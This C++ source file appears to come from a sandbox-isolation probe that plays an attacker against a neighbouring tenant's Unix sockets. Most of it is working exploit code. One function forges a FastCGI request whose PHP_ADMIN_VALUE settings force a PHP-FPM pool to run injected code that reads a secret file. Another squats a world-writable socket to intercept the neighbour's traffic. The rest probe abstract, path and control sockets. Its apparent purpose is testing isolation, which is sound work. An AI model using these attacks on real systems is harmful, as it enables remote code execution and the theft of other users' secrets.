// Group C: sockets of the neighbour and of the server.
//
// Runs in: bulkhead-probe, as the attacking site.  Ref: unix(7), FastCGI specification 1.0
// section 3.
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>
#include <vector>

#include "probe/probe.h"

namespace bulkhead::probe {
namespace {

// "@name" is an abstract socket.
int connect_unix(const std::string& name) {
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  if (name.size() >= sizeof address.sun_path) {
    errno = ENAMETOOLONG;
    return -1;
  }
  std::memcpy(address.sun_path, name.data(), name.size());
  if (name.starts_with('@')) address.sun_path[0] = '\0';
  auto length = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size() +
                                       (name.starts_with('@') ? 0 : 1));
  if (::connect(fd, reinterpret_cast<sockaddr*>(&address), length) == 0) return fd;
  int error = errno;
  ::close(fd);
  errno = error;
  return -1;
}

std::string receive(int fd) {
  std::string got;
  char bytes[4096];
  pollfd p{fd, POLLIN, 0};
  while (got.size() < 65536 && ::poll(&p, 1, 3000) > 0) {
    ssize_t n = ::recv(fd, bytes, sizeof bytes, 0);
    if (n <= 0) break;
    got.append(bytes, static_cast<size_t>(n));
  }
  return got;
}

Finding ask(const std::string& name, std::string_view question) {
  if (name.empty() || name == "@") return cannot("the neighbour has no such socket");
  int fd = connect_unix(name);
  if (fd < 0) return refused("connect " + name);
  if (!question.empty()) ::send(fd, question.data(), question.size(), MSG_NOSIGNAL);
  std::string got = receive(fd);
  ::close(fd);
  if (got.empty()) return refused("be answered by " + name, EPERM);
  return obtained(got);
}

void add_record(std::string* out, uint8_t type, std::string_view body) {
  const auto n = static_cast<uint16_t>(body.size());
  const char head[8] = {
      1, static_cast<char>(type), 0, 1, static_cast<char>(n >> 8), static_cast<char>(n & 255), 0,
      0};
  out->append(head, sizeof head).append(body);
}
void add_param(std::string* out, std::string_view name, std::string_view value) {
  auto length = [&](size_t n) {
    if (n < 128) {
      *out += static_cast<char>(n);
    } else {
      const char bytes[4] = {static_cast<char>(n >> 24 | 0x80), static_cast<char>(n >> 16),
                             static_cast<char>(n >> 8), static_cast<char>(n)};
      out->append(bytes, sizeof bytes);
    }
  };
  length(name.size());
  length(value.size());
  out->append(name).append(value);
}

// Orders the neighbour's pool to run code of ours: FastCGI lets any peer set PHP settings.
Finding order_pool(const Facts& f) {
  if (!f["pool_socket"].starts_with('/')) return cannot("the neighbour's pool has no Unix socket");
  const std::string code = "<?php readfile('" + f["secret"] + "');";
  std::string params, request;
  for (auto [name, value] : std::initializer_list<std::pair<const char*, std::string>>{
           {"SCRIPT_FILENAME", f["victim_script"]},
           {"REQUEST_METHOD", "POST"},
           {"CONTENT_LENGTH", std::to_string(code.size())},
           {"CONTENT_TYPE", "text/plain"},
           {"SERVER_PROTOCOL", "HTTP/1.1"},
           {"REQUEST_URI", "/"},
           {"SCRIPT_NAME", "/"},
           {"PHP_ADMIN_VALUE", "allow_url_include=1\nauto_prepend_file=php://input"}}) {
    add_param(&params, name, value);
  }
  add_record(&request, 1, std::string_view("\0\1\0\0\0\0\0\0", 8));
  add_record(&request, 4, params);
  add_record(&request, 4, "");
  add_record(&request, 5, code);
  add_record(&request, 5, "");
  return ask(f["pool_socket"], request);
}

Finding abstract_socket(const Facts& f) { return ask("@" + f["abstract"], ""); }
Finding path_socket(const Facts& f) { return ask(f["path_socket"], ""); }
Finding machine_socket(const Facts& f) { return ask(f["machine_socket"], ""); }
Finding control_socket(const Facts& f) { return ask(f["control"], "status\n"); }

// Takes the name the neighbour's program is about to serve under.
Finding squat(const Facts& f) {
  const std::string name = "/tmp/" + f["tag"] + ".squat";
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return refused("socket");
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path, name.data(), std::min(name.size(), sizeof address.sun_path - 1));
  if (::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
    return refused("bind " + name);
  }
  ::chmod(name.c_str(), 0666);
  ::listen(fd, 1);
  pollfd p{fd, POLLIN, 0};
  std::string got;
  if (::poll(&p, 1, 1500) > 0) {
    int peer = ::accept(fd, nullptr, nullptr);
    if (peer >= 0) got = receive(peer);
  }
  ::unlink(name.c_str());
  if (got.empty()) return refused("be found by the neighbour at " + name, ENOENT);
  return obtained(got);
}

Finding unix_listing(const Facts&) { return read_path("/proc/net/unix", 1 << 20); }

constexpr Row kRows[] = {
    {"C1", order_pool},     {"C3", abstract_socket}, {"C4", path_socket},   {"C4b", machine_socket},
    {"C6", control_socket}, {"C8", squat},           {"D16", unix_listing},
};

}  // namespace

std::span<const Row> socket_attacks() { return kRows; }

}  // namespace bulkhead::probe
